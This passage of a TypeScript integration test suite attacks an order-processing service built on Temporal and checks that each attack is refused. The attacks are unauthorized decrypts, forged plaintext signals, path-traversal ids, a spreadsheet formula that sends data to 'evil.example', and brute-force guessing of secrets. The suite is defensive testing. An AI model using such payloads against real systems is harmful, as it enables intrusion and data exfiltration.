    return h.events[0].workflowExecutionStartedEventAttributes.input.payloads[0];
  };
  attack('the operator cannot decrypt (403, nothing decoded)', async () => {
    const r = await int.post(
      '/codec/decode',
      { payloads: [await sealedPayload()] },
      { headers: { authorization: `Bearer ${OPERATOR}` } },
    );
    assert.equal(r.status, 403);
    assert.equal((r.data as { payloads?: unknown }).payloads, undefined);
  });
  attack('the viewer cannot decrypt (403)', async () => {
    const r = await int.post(
      '/codec/decode',
      { payloads: [await sealedPayload()] },
      { headers: { authorization: basic(VIEWER) } },
    );
    assert.equal(r.status, 403);
  });
  attack('without credentials the codec decodes nothing (401)', async () => {
    const r = await int.post(
      '/codec/decode',
      { payloads: [await sealedPayload()] },
      { headers: { origin: 'http://localhost:8233' } },
    );
    assert.equal(r.status, 401);
    assert.equal((r.data as { payloads?: unknown }).payloads, undefined);
  });
  attack('a codec request with more payloads than allowed is refused (400)', async () => {
    const p = await sealedPayload();
    const r = await int.post(
      '/codec/decode',
      { payloads: Array.from({ length: 201 }, () => p) },
      { headers: { authorization: `Bearer ${DECRYPTOR}` } },
    );
    assert.equal(r.status, 400);
    assert.match((r.data as { error: string }).error, /at most 200/);
  });
  attack('a codec body over the size limit is refused (413)', async () => {
    const big = { payloads: [{ metadata: { encoding: 'anNvbi9wbGFpbg==' }, data: 'A'.repeat(5 * 1024 * 1024) }] };
    const r = await int.post('/codec/decode', big, {
      headers: { authorization: `Bearer ${DECRYPTOR}` },
      maxBodyLength: Infinity,
    });
    assert.equal(r.status, 413);
  });
});

describe('Temporal: require-encrypted refuses plaintext data', () => {
  const plainClient = () => new Client({ connection: env.connection, namespace: env.namespace ?? 'default' });
  const taskFailedAfterSignal = async (workflowId: string, signal: string) => {
    await eventually(
      async () => {
        const h = JSON.parse(historyToJSON(await plainClient().workflow.getHandle(workflowId).fetchHistory()));
        const events = h.events as Array<Record<string, unknown>>;
        const at = events.findIndex(
          (e) =>
            (e.workflowExecutionSignaledEventAttributes as { signalName?: string } | undefined)?.signalName === signal,
        );
        return at >= 0 && events.slice(at).some((e) => e.workflowTaskFailedEventAttributes) ? true : undefined;
      },
      15_000,
      `the workflow refusing the plaintext ${signal}`,
    );
  };
  attack('a plaintext refund signal sent straight to Temporal is never applied (no OR28)', async () => {
    const workflowId = orderWorkflowId('asos', orders.plainA);
    await plainClient()
      .workflow.getHandle(workflowId)
      .signal(refundNotifiedSignal, {
        refundId: 'gid://shopify/Refund/666',
        note: 'forged',
        lines: [{ sku: 'TEE-RED-M', quantity: 1 }],
      });
    await taskFailedAfterSignal(workflowId, 'refundNotified');
    // An operator resets such a workflow to before the forged signal; here it is simply ended.
    await env.client.workflow.getHandle(workflowId).terminate('forged plaintext signal (attack test)');
  });
  attack(
    'a plaintext despatch signal sent straight to Temporal is never applied (no confirmation, no warehouse read)',
    async () => {
      const workflowId = orderWorkflowId('joules', orders.plainJ);
      const seq = lastSeq();
      await plainClient()
        .workflow.getHandle(workflowId)
        .signal(despatchNotifiedSignal, { despatchNumber: 'FORGED-9', trackingNumber: 'X', carrier: 'DPD' });
      await taskFailedAfterSignal(workflowId, 'despatchNotified');
      await new Promise((r) => setTimeout(r, SETTLE_MS));
      // While the forged signal sits in the workflow: no confirmation and no warehouse call at all.
      assert.deepEqual(
        effectsSince(seq).map((c) => `${c.system} ${c.endpoint} (${c.tenant})`),
        [],
        'nothing may change downstream',
      );
      await env.client.workflow.getHandle(workflowId).terminate('forged plaintext signal (attack test)');
    },
    // Ended, the order is started again by the intake when it next sees it (nothing is lost: issue 10); the new
    // run looks its warehouse order up (a read) and finds it. Writes are still refused from here on.
    { warehouseReads: true },
  );
});

describe('reports: remote ids and cells', () => {
  attack(
    'a billing cycle id that is a path (../../…) stays a file name inside the reports folder',
    async () => {
      const evil = `../../../../../../../../../tmp/${pwn}`.padEnd(36, 'x').slice(0, 36);
      const traversalTarget = join('/tmp', evil.slice(evil.lastIndexOf('/') + 1));
      await stack.control.post('/control/mirakl/asos/billing-cycles', { cycleId: evil, orderIds: [] });
      const result = (await env.client.workflow.execute(payoutReconciliationWorkflow, {
        workflowId: `attack-recon-${stack.idPrefix}`,
        taskQueue: stack.config.temporal.taskQueues.orders,
        args: [{ channels: ['asos'], cycleIds: [evil], raiseExceptions: false }],
      })) as { cycles: Array<{ reportCsv: string; reportJson: string }> };
      const cycle = result.cycles[0];
      assert.ok(cycle, 'the cycle was reconciled');
      for (const f of [cycle.reportCsv, cycle.reportJson]) {
        assert.ok(f.startsWith(`${reportsDir}/`), `${f} is inside ${reportsDir}`);
        assert.ok(!f.slice(reportsDir.length + 1).includes('/'), `${f} is a plain file name`);
        assert.ok(existsSync(f));
      }
      assert.ok(
        !existsSync(`${traversalTarget}.csv`) && !existsSync(`${traversalTarget}.json`),
        'nothing written outside',
      );
    },
    { warehouseReads: true },
  );
  attack(
    'an item code that is a spreadsheet formula is written as text in the audit report',
    async () => {
      const formula = '=HYPERLINK("https://evil.example/?x="&A1)';
      await stack.control.put('/control/peoplevox/test-client/items', {
        items: [{ itemCode: formula, name: 'x', available: 3 }],
      });
      const result = await env.client.workflow.execute(catalogueAuditWorkflow, {
        workflowId: `attack-audit-${stack.idPrefix}`,
        taskQueue: stack.config.temporal.taskQueues.orders,
        args: [
          { channels: ['joules'], taskQueue: stack.config.temporal.taskQueues.peoplevoxBulk, raiseExceptions: false },
        ],
      });
      const csv = readFileSync(result.channels[0]!.reportCsv, 'utf8');
      assert.ok(csv.includes(`'=HYPERLINK(""https://evil.example/?x=""&A1)`), 'the cell starts with a quote');
      assert.ok(!/(^|,)"?=HYPERLINK/m.test(csv), 'no cell starts with =');
    },
    { warehouseReads: true, settleMs: 1500 },
  );
});

describe('brute force (from 203.0.113.x through the trusted proxy)', () => {
  attack('guessing the callback secret is locked out after 20 tries (404s, then 429)', async () => {
    const from = { 'x-forwarded-for': '203.0.113.7' };
    const statuses: number[] = [];
    for (let i = 0; i < 25; i++)
      statuses.push(
        (
          await pub.get(
            `/webhooks/peoplevox/guess-${i}-000000000000000000000/availability?item=TEE-RED-M&available=0`,
            { headers: from },
          )
        ).status,
      );
    assert.deepEqual(statuses.slice(0, 20), Array(20).fill(404));
    assert.deepEqual(statuses.slice(20), Array(5).fill(429));
    // Locked out even with the right secret, for the rest of the window.
    assert.equal(
      (await pub.get(`/webhooks/peoplevox/${SECRET}/availability?item=TEE-RED-M&available=0`, { headers: from }))
        .status,
      429,
    );
  });
  attack('guessing the operator token is locked out after 20 tries (401s, then 429)', async () => {
    const from = { 'x-forwarded-for': '203.0.113.8' };
    const statuses: number[] = [];
    for (let i = 0; i < 25; i++)
      statuses.push(
        (
          await int.get('/ops/api/summary', {
            headers: { ...from, authorization: `Bearer guess-${i}-00000000000000000000` },
          })
        ).status,
      );
    assert.deepEqual(statuses.slice(0, 20), Array(20).fill(401));
    assert.deepEqual(statuses.slice(20), Array(5).fill(429));
    assert.equal(
      (
        await int.post(
          `/ops/api/workflows/${encodeURIComponent(orderWorkflowId('joules', orders.open))}/cancel`,
          { note: 'brute' },
          { headers: { ...from, authorization: `Bearer ${OPERATOR}` } },
        )
      ).status,
      429,
    );
  });
});

describe('after every attack', () => {
  test('nothing changed downstream over the whole attack window, and every case was refused', async () => {
    await new Promise((r) => setTimeout(r, 1500));
    // The file cases read the warehouse (the audit reads its items); nothing anywhere was written.
    const writes = effectsSince(attackFrom, { warehouseReads: true });
    assert.deepEqual(
      writes.map((c) => `${c.system} ${c.endpoint} (${c.tenant})`),
      [],
    );
    // The open order is still open and untouched on Joules and in the warehouse.
    const joules = (await stack.control.get(`/control/mirakl/joules/orders/${orders.open}`)).data as {
      order_state: string;
    };
    assert.equal(joules.order_state, 'SHIPPING');
    const pvx = (await stack.control.get(`/control/peoplevox/test-client/orders/${son(orders.open)}`)).data as {
      status: string;
    };
    assert.notEqual(pvx.status, 'Cancelled');
    assert.ok(tally.length >= 40, `${tally.length} attack cases`);
    assert.deepEqual(
      tally.filter((t) => !t.refused).map((t) => t.name),
      [],
    );
  });
});
